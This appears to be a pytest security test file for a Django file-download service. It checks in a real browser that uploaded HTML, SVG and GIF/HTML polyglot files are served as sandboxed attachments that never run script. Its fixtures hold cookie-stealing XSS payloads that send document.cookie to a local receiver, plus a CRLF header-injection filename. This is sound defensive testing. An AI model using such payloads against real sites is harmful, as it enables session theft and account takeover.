"""Stored files never run in our origin: a real Chromium, logged in to the admin as a superuser,
opens every kind of download link (a personal upload from the admin's file list, a skill artifact
and a generated image from an execution's page, a generated file's /files/download/<token> link,
the API's artifact download URL) for an HTML page, an SVG with a script and a GIF89a/HTML polyglot.
Had the browser rendered one, its script would set `document.title` and fetch a loopback receiver
with the admin's cookies: neither may happen. The headers of every answer are checked too.

Some rows are given the type a client or a skill named (text/html, image/svg+xml), as rows stored
before the bytes decided: the download must be safe whatever a row says.

Then the rules themselves, fast: the stored type (files/content_types.py) and the headers
(files/download_headers.py), S3's presigned URL included."""

import http.server
import threading
from urllib.parse import parse_qs, urlsplit

import httpx
import pytest
from django.contrib.auth.models import User
from django.core.files.base import ContentFile
from django.core.files.storage import default_storage

from executions.events import append_event
from executions.models import Artifact
from files.content_types import served_content_type, stored_content_type
from files.download_headers import SANDBOX_POLICY, download_headers
from files.models import StoredFile
from files.selectors import download_url
from files.services import store_generated_file
from tests.factories import ExecutionFactory
from tests.helpers import auth

PASSWORD = "downloads-pw"


def payloads(receiver: str) -> dict[str, tuple[bytes, str]]:
    """name -> (bytes, the active type a careless server would serve them with)."""
    script = f"document.title='pwned';fetch('{receiver}/hit?c='+encodeURIComponent(document.cookie))"
    return {
        "report.html": (
            f"<!doctype html><html><body><script>{script}</script>report</body></html>".encode(),
            "text/html",
        ),
        "logo.svg": (
            f'<svg xmlns="http://www.w3.org/2000/svg" onload="{script}"><script>{script}</script></svg>'.encode(),
            "image/svg+xml",
        ),
        "chart.gif": (b"GIF89a\x01\x00\x01\x00\x00\x00\x00;" + f"<script>{script}</script>".encode(), "text/html"),
    }


class Receiver(http.server.ThreadingHTTPServer):
    """Records every request a page's script makes to it."""

    def __init__(self):
        self.hits: list[str] = []
        receiver = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self):
                receiver.hits.append(self.path)
                self.send_response(204)
                self.send_header("Access-Control-Allow-Origin", "*")
                self.end_headers()

            def log_message(self, *args):
                pass

        super().__init__(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server_address[1]}"


@pytest.fixture
def receiver():
    server = Receiver()
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield server
    server.shutdown()
    server.server_close()
    thread.join(5)


def assert_safe_headers(headers, what: str) -> None:
    assert headers["content-disposition"].startswith("attachment; filename="), (what, headers)
    assert headers["x-content-type-options"] == "nosniff"
    assert headers["content-security-policy"] == SANDBOX_POLICY
    media_type = headers["content-type"].split(";")[0]
    assert media_type not in ("text/html", "image/svg+xml", "application/xhtml+xml", "text/xml", "application/xml")
    assert media_type in ("text/plain", "application/octet-stream", "image/gif"), (what, media_type)


def test_no_download_link_runs_a_script_in_chromium(transactional_db, api_server, browser, receiver, tenant, agent):
    base_url = api_server
    User.objects.create_superuser("root", "root@example.com", PASSWORD)
    execution = ExecutionFactory(agent=agent, finished=True)
    key_headers = auth(tenant, "workspace")
    links: list[tuple[str, str, dict]] = []  # (what, URL, extra request headers)
    stored_keys = []

    for name, (content, active_type) in payloads(receiver.url).items():
        # a personal file, uploaded by an end user with the active type declared
        with httpx.Client(base_url=base_url, timeout=30) as client:
            uploaded = client.post(
                "/v1/files/", headers=auth(tenant), files={"file": (name, content, active_type)}
            ).json()["data"]
        assert uploaded["content_type"] in ("text/plain", "image/gif"), uploaded
        personal = StoredFile.objects.get(id=uploaded["id"])
        StoredFile.objects.filter(id=personal.id).update(content_type=active_type)  # as stored before the fix
        links.append((f"personal {name}", f"/admin/files/storedfile/{personal.id}/download/", {}))

        # a generated file, its row naming the active type
        generated = store_generated_file(tenant.workspace, None, content, name)
        StoredFile.objects.filter(id=generated.id).update(content_type=active_type)
        generated.content_type = active_type
        append_event(
            execution,
            "media_gen_complete",
            {"url": download_url(generated), "storage_key": generated.storage_key, "content_type": active_type},
        )

        # a skill artifact under outputs/, its type taken from its name as before the fix
        key = default_storage.save(f"workspaces/{execution.id}/outputs/{name}", ContentFile(content))
        stored_keys.append(key)
        artifact = Artifact.objects.create(
            execution=execution,
            relpath_in_workspace=f"outputs/{name}",
            document_type=active_type,
            size_bytes=len(content),
            storage_key=key,
        )
        append_event(
            execution,
            "artifact",
            {"artifact_id": str(artifact.id), "relpath_in_workspace": f"outputs/{name}", "document_type": active_type},
        )
        links.append((f"API artifact {name}", _artifact_api_url(artifact), key_headers))

    page = browser.new_page()
    browser.run(page.goto, f"{base_url}/admin/login/?next=/admin/")
    browser.run(page.fill, "#id_username", "root")
    browser.run(page.fill, "#id_password", PASSWORD)
    browser.run(page.click, "input[type=submit]")
    browser.run(lambda: page.wait_for_url(f"{base_url}/admin/"))

    # the links as the execution's page shows them: artifacts, generated media (admin), their signed URLs
    browser.run(page.goto, f"{base_url}/admin/executions/execution/{execution.id}/change/")
    hrefs = browser.run(page.eval_on_selector_all, "a[href*='/download/']", "els => els.map(e => e.href)")
    artifact_hrefs = sorted({h for h in hrefs if "/artifact/" in h})
    media_hrefs = sorted({h for h in hrefs if "/storedfile/" in h})
    assert len(artifact_hrefs) == 3 and len(media_hrefs) == 3, hrefs
    links += [("admin artifact", href, {}) for href in artifact_hrefs]
    links += [("admin generated", href, {}) for href in media_hrefs]
    for event in execution.events.filter(type="media_gen_complete"):
        links.append(("download link", event.data["url"], {}))
    assert len(links) == 15

    for what, url, extra in links:
        url = url if url.startswith("http") else base_url + url
        # the answer's headers, with the session's cookies (and the key for the API's route)
        answer = browser.run(page.request.get, url, headers=extra, max_redirects=0)
        assert answer.status == 200, (what, url, answer.status)
        assert_safe_headers(answer.headers, what)

        tab = browser.new_page()  # a fresh context with the superuser's session (and the key, if needed)
        browser.run(tab.context.add_cookies, browser.run(page.context.cookies))
        browser.run(tab.set_extra_http_headers, extra)
        browser.run(_open, tab, url)
        browser.run(tab.wait_for_timeout, 300)
        assert browser.run(tab.title) != "pwned", (what, url)
        # and in a frame of an admin page, where a rendered document would share the admin's origin
        browser.run(page.goto, f"{base_url}/admin/")
        browser.run(
            page.evaluate,
            "url => { const f = document.createElement('iframe'); f.src = url; document.body.append(f); }",
            url,
        )
        browser.run(page.wait_for_timeout, 300)
        assert browser.run(page.title) != "pwned", (what, url)
    assert receiver.hits == []
    for key in stored_keys:
        default_storage.delete(key)


def _open(tab, url: str) -> None:
    """Navigate; an attachment makes Chromium start a download, which Playwright reports as an error."""
    from playwright.sync_api import Error

    try:
        tab.goto(url, wait_until="load", timeout=10_000)
    except Error as exc:
        assert "Download is starting" in str(exc) or "net::ERR_ABORTED" in str(exc), exc


def _artifact_api_url(artifact) -> str:
    from api.skills.serializers import artifact_download_url

    return artifact_download_url(artifact)


# --- the rules ----------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "head, name, expected",
    [
        (b"<!doctype html><script>x</script>", "report.html", "text/plain"),
        (b"<svg xmlns='http://www.w3.org/2000/svg'/>", "logo.svg", "text/plain"),
        (b"<?xml version='1.0'?><a/>", "data.xml", "text/plain"),
        (b"<html>", "notes.md", "text/plain"),  # markup whatever the name
        (b"# Title\n", "notes.md", "text/markdown"),
        (b"a,b\n1,2\n", "t.csv", "text/csv"),
        (b'{"a": 1}', "d.json", "application/json"),
        (b"alert(document.cookie)", "x.js", "text/plain"),
        (b"GIF89a\x01\x00\x01\x00<script>x</script>", "p.html", "image/gif"),  # a GIF, shown as an image at most
        (b"%PDF-1.4\n", "a.html", "application/pdf"),
        (b"\x00\x01binary", "blob", "application/octet-stream"),
    ],
)
def test_the_stored_type_comes_from_the_bytes(head, name, expected):
    assert stored_content_type(head, name) == expected


@pytest.mark.parametrize(
    "stored, served",
    [
        ("text/html", "text/plain"),
        ("text/html; charset=utf-8", "text/plain"),
        ("application/xhtml+xml", "application/octet-stream"),
        ("image/svg+xml", "application/octet-stream"),
        ("text/xml", "text/plain"),
        ("application/javascript", "application/octet-stream"),
        ("text/javascript", "text/plain"),
        ("application/x-shockwave-flash", "application/octet-stream"),
        ("", "application/octet-stream"),
        ("image/png", "image/png"),
        ("application/pdf", "application/pdf"),
        ("text/markdown", "text/markdown"),
        ("video/mp4", "video/mp4"),
    ],
)
def test_only_passive_types_are_served_as_themselves(stored, served):
    assert served_content_type(stored) == served


def test_the_headers_make_any_file_a_sandboxed_attachment_with_a_safe_name():
    headers = download_headers("text/html", 'a"b\r\nSet-Cookie: x.html')
    assert headers["Content-Type"] == "text/plain"
    assert headers["Content-Disposition"] == 'attachment; filename="a\\"bSet-Cookie: x.html"'
    assert headers["X-Content-Type-Options"] == "nosniff"
    assert headers["Content-Security-Policy"] == "default-src 'none'; sandbox"
    assert download_headers("image/png", "résumé.png")["Content-Disposition"] == (
        "attachment; filename*=utf-8''r%C3%A9sum%C3%A9.png"
    )


@pytest.mark.django_db
def test_every_download_route_sends_the_headers(client, tenant, agent):
    User.objects.create_superuser("root", "root@example.com", PASSWORD)
    client.login(username="root", password=PASSWORD)
    upload = client.post(
        "/v1/files/",
        {"file": ContentFile(b"<html><script>x</script></html>", name="r.html")},
        headers=auth(tenant),
    ).json()["data"]
    assert upload["content_type"] == "text/plain"
    generated = store_generated_file(tenant.workspace, None, b"<svg onload=x></svg>", "s.svg")
    execution = ExecutionFactory(agent=agent, finished=True)
    key = default_storage.save(f"workspaces/{execution.id}/outputs/summary.html", ContentFile(b"<html></html>"))
    artifact = Artifact.objects.create(
        execution=execution,
        relpath_in_workspace="outputs/summary.html",
        document_type="text/html",
        size_bytes=13,
        storage_key=key,
    )
    try:
        for url, headers in [
            (f"/admin/files/storedfile/{upload['id']}/download/", {}),
            (f"/admin/files/storedfile/{generated.id}/download/", {}),
            (f"/admin/executions/execution/artifact/{artifact.id}/download/", {}),
            (download_url(generated), {}),
            (_artifact_api_url(artifact), auth(tenant, "workspace")),
        ]:
            response = client.get(url, headers=headers)
            assert response.status_code == 200, url
            assert response["Content-Type"] == "text/plain", url
            assert response["Content-Disposition"].startswith("attachment; filename="), url
            assert response["X-Content-Type-Options"] == "nosniff"
            assert response["Content-Security-Policy"] == SANDBOX_POLICY
    finally:
        default_storage.delete(key)


def test_a_presigned_s3_url_makes_s3_answer_with_the_attachment_and_a_passive_type(settings, s3_server, monkeypatch):
    from django.core.files.storage import storages

    from files.responses import stored_file_response

    endpoint, s3 = s3_server
    s3.create_bucket(Bucket="downloads-test")
    monkeypatch.setenv("AWS_ACCESS_KEY_ID", "test")
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "test")
    settings.STORAGES = {
        **settings.STORAGES,
        "default": {
            "BACKEND": "files.storage.S3Storage",
            "OPTIONS": {
                "bucket_name": "downloads-test",
                "endpoint_url": endpoint,
                "region_name": "us-east-1",
                "signature_version": "s3v4",
                "addressing_style": "path",
            },
        },
    }
    key = storages["default"].save("files/report.html", ContentFile(b"<html><script>x</script></html>"))

    response = stored_file_response(key, "text/html", "report.html")
    assert response.status_code == 302
    assert response["X-Content-Type-Options"] == "nosniff" and response["Content-Security-Policy"] == SANDBOX_POLICY
    query = parse_qs(urlsplit(response["Location"]).query)
    assert query["response-content-disposition"] == ['attachment; filename="report.html"']
    assert query["response-content-type"] == ["text/plain"]
    fetched = httpx.get(response["Location"], timeout=10)
    assert fetched.status_code == 200 and fetched.headers["content-type"].startswith("text/plain")
    assert fetched.headers["content-disposition"] == 'attachment; filename="report.html"'
